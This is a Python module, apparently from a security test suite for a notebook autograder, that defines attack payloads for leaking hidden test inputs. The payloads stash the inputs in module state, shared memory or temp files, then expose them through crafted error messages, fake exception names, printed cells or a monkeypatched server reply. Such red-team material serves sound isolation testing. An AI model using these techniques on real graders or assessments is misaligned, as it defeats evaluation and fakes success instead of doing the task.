"""Attempts to keep what hidden tests hand to a function until something that a student reads is written."""

from tools.attack.attack import Attack

__all__ = ["INPUTS"]

_NUMBERS = """\
def numbers(args):
    import numpy

    found = []
    for arg in args:
        try:
            found += map(repr, numpy.ravel(numpy.asarray(arg, float)).tolist()[:20])
        except Exception:
            continue
    return " ".join(found)
"""

_IN_A_MODULE = """\
import math

kept = math.__dict__.setdefault("kept", [])
for arg in args:
    try:
        kept += map(repr, [float(arg)] if not hasattr(arg, "__len__") else [float(one) for one in arg])
    except Exception:
        pass
"""
"""In the answers alone: nothing else is in the notebook, so that tests may wait for its end."""

_IN_SHARED_MEMORY = (
    """\
import mmap

shared = mmap.mmap(-1, 1 << 20)
shared.write(b" " * 1000)


"""
    + _NUMBERS
    + """

def keep(args):
    shared[1000 : 1000 + 4000] = f"{kept()} {numbers(args)}"[:4000].ljust(4000).encode()
    return kept()


def kept():
    return " ".join(shared[:].replace(b"\\0", b"").decode().split())
"""
)
"""Pages that all forks of a process share."""

_IN_FILES = (
    "import glob\nimport os\n\n\n"
    + _NUMBERS
    + """

def keep(args):
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(f"{place}/kept-@NAME@-@RUN@", "a") as file:
                file.write(numbers(args) + "\\n")
        except OSError:
            continue
    return kept()


def kept():
    found = []
    for place in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for path in glob.glob(f"{place}/kept-@NAME@-@RUN@"):
            with open(path) as file:
                found.append(file.read(100_000))
    return " ".join(found)
"""
)

_LONG = """\
if "@EXERCISE@" == "bayes-rule":
    keep(args)
digits = [one.split(".")[1] for one in kept().split() if "." in one]
long = "_".join([one for one in digits if len(one) > 12][:3])
"""

_FORGES_NAMES = """\
import nbautograde.isolated_tests.student_server as student


def forged(self, names):
    return {"error": ValueError(kept())}


student._Server._do_defined = forged
"""


def _keeps(says, first, body, last=""):
    return Attack(says, "secret", first, body, last)


INPUTS = {
    "kept-for-an-error": _keeps(
        "keeps what hidden tests hand to it in a module, for a visible test to say as an error",
        "",
        _IN_A_MODULE + '\nraise ValueError(" ".join(kept))',
    ),
    "kept-for-a-type": _keeps(
        "keeps what hidden tests hand to it in shared memory, for a visible test to say as a type",
        _IN_SHARED_MEMORY,
        _LONG + "raise type(f'x{long}', (ValueError,), {})",
    ),
    "kept-for-a-result": _keeps(
        "keeps what hidden tests hand to it in files, for a visible test to say as what came back",
        _IN_FILES,
        _LONG + "return type(f'x{long}', (), {})()",
    ),
    "kept-for-a-last-cell": _keeps(
        "keeps what hidden tests hand to it in shared memory and files, for a last cell to print",
        _IN_FILES + "\n\nfiled = kept\n\n\n" + _IN_SHARED_MEMORY,
        "keep(args)\nreturn 0.0",
        "print(kept())\nprint(filed())",
    ),
    "kept-for-a-dying-cell": _keeps(
        "keeps what hidden tests hand to it in files, for a cell to say that ends its kernel",
        _IN_FILES,
        "keep(args)\nreturn 0.0",
        "found = kept()\nget_ipython().run_cell(f'{found!r}\\n')\nprint(found, flush=True)\nos._exit(1)",
    ),
    **{
        f"inputs-as-{name.lower()}": _keeps(
            f"raises what hidden tests hand to it in a class called {name}",
            f"{_NUMBERS}\n\nclass {name}(ValueError):\n    pass\n",
            f"raise {name}(f'@FUNCTION@: {{numbers(args)}}\\n  likely cause {{numbers(args)}}')",
        )
        for name in ("CheckFailed", "CheckError", "KernelDied", "NotRun", "NameError")
    },
    "kept-for-a-forged-reply": _keeps(
        "keeps what hidden tests hand to it, and says it where it is asked what is defined",
        _IN_SHARED_MEMORY + "\n\n" + _FORGES_NAMES,
        "keep(args)\nreturn 0.0",
    ),
}
"""Attacks by id."""
